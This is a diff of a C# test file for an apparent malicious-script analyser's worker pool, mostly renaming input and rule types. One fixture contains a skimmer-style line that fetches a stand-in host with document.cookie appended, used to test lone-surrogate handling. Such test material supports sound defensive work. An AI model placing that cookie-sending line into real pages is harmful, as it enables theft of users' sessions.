@@ -34,14 +34,14 @@ public sealed class WorkerPoolTests : IAsyncDisposable
     public async Task A_script_that_ends_the_analyser_is_suspicious_and_ends_nothing_else(string kind, string source)
     {
         var examiner = new ScriptExaminer(workers: _pool);
-        var script = new ScriptToJudge { Source = source };
+        var script = new ScriptInput { Source = source };
 
         var judgement = ScriptJudge.With(await examiner.ExamineAsync(script, Cancel), script);
 
         Assert.True(judgement.Verdict == VerdictKind.Suspicious, $"{kind}: {judgement.Verdict}");
-        Assert.Contains(judgement.Findings, finding => finding is { Rule: AnalyserEnded.Rule, Severity: Severity.High });
+        Assert.Contains(judgement.Findings, finding => finding is { Rule: AnalyzerCrash.Rule, Severity: Severity.High });
         Assert.Equal(ScriptExaminer.AnalyzerVersion, judgement.AnalyzerVersion);
-        var honest = new ScriptToJudge { Source = "var a = 1;" };
+        var honest = new ScriptInput { Source = "var a = 1;" };
         Assert.Equal(99, ScriptJudge.With(await examiner.ExamineAsync(honest, Cancel), honest).Score);
     }
 
@@ -49,7 +49,7 @@ public sealed class WorkerPoolTests : IAsyncDisposable
     [MemberData(nameof(Deadly))]
     public async Task A_skimmer_that_ends_the_analyser_is_judged_by_what_is_left(string kind, string source)
     {
-        var script = new ScriptToJudge { Source = Skimmer + source };
+        var script = new ScriptInput { Source = Skimmer + source };
 
         var judgement = ScriptJudge.With(await new ScriptExaminer(workers: _pool).ExamineAsync(script, Cancel), script);
 
@@ -73,7 +73,7 @@ public sealed class WorkerPoolTests : IAsyncDisposable
     public async Task A_text_with_lone_surrogates_arrives_unit_by_unit()
     {
         const string Source = "var a = '\uD800x\uDC00';\nfetch('https://\uDFFF.example/' + document.cookie);";
-        var script = new ScriptToJudge { Source = Source };
+        var script = new ScriptInput { Source = Source };
 
         var ours = new ScriptJudge().Examine(script);
         var theirs = await new ScriptExaminer(workers: _pool).ExamineAsync(script, Cancel);
@@ -86,7 +86,7 @@ public sealed class WorkerPoolTests : IAsyncDisposable
     public async Task A_worker_that_somebody_else_ends_is_replaced_and_says_nothing_about_a_script()
     {
         var examiner = new ScriptExaminer(workers: _pool);
-        var script = new ScriptToJudge { Source = "var a = 1;" };
+        var script = new ScriptInput { Source = "var a = 1;" };
         await examiner.ExamineAsync(script, Cancel);
         var first = Assert.Single(_pool.ProcessIds);
         using (var process = Process.GetProcessById(first))
@@ -106,7 +106,7 @@ public sealed class WorkerPoolTests : IAsyncDisposable
     {
         var examiner = new ScriptExaminer(workers: _pool);
 
-        for (var number = 0; number < 50; number++) await examiner.ExamineAsync(new ScriptToJudge { Source = $"var a = {number};" }, Cancel);
+        for (var number = 0; number < 50; number++) await examiner.ExamineAsync(new ScriptInput { Source = $"var a = {number};" }, Cancel);
 
         Assert.Single(_pool.ProcessIds);
         Assert.Equal(0, _pool.Deaths);
@@ -117,7 +117,7 @@ public sealed class WorkerPoolTests : IAsyncDisposable
     {
         Assert.SkipUnless(OperatingSystem.IsLinux(), "Environments are read from /proc.");
         Environment.SetEnvironmentVariable("PageShield__Hub_Test", "a-secret");
-        await new ScriptExaminer(workers: _pool).ExamineAsync(new ScriptToJudge { Source = "var a = 1;" }, Cancel);
+        await new ScriptExaminer(workers: _pool).ExamineAsync(new ScriptInput { Source = "var a = 1;" }, Cancel);
 
         var environment = await File.ReadAllTextAsync($"/proc/{Assert.Single(_pool.ProcessIds)}/environ", Cancel);
 
@@ -131,7 +131,7 @@ public sealed class WorkerPoolTests : IAsyncDisposable
         await using var pool = new WorkerPool(new WorkerOptions { Program = new WorkerProgram("/nowhere/page-shield", [WorkerProgram.Verb]) });
 
         var error = await Assert.ThrowsAsync<WorkerUnavailableException>(
-            () => new ScriptExaminer(workers: pool).ExamineAsync(new ScriptToJudge { Source = "var a = 1;" }, Cancel));
+            () => new ScriptExaminer(workers: pool).ExamineAsync(new ScriptInput { Source = "var a = 1;" }, Cancel));
 
         Assert.Contains("/nowhere/page-shield", error.Message, StringComparison.Ordinal);
         Assert.Equal(error.Message, pool.Problem);
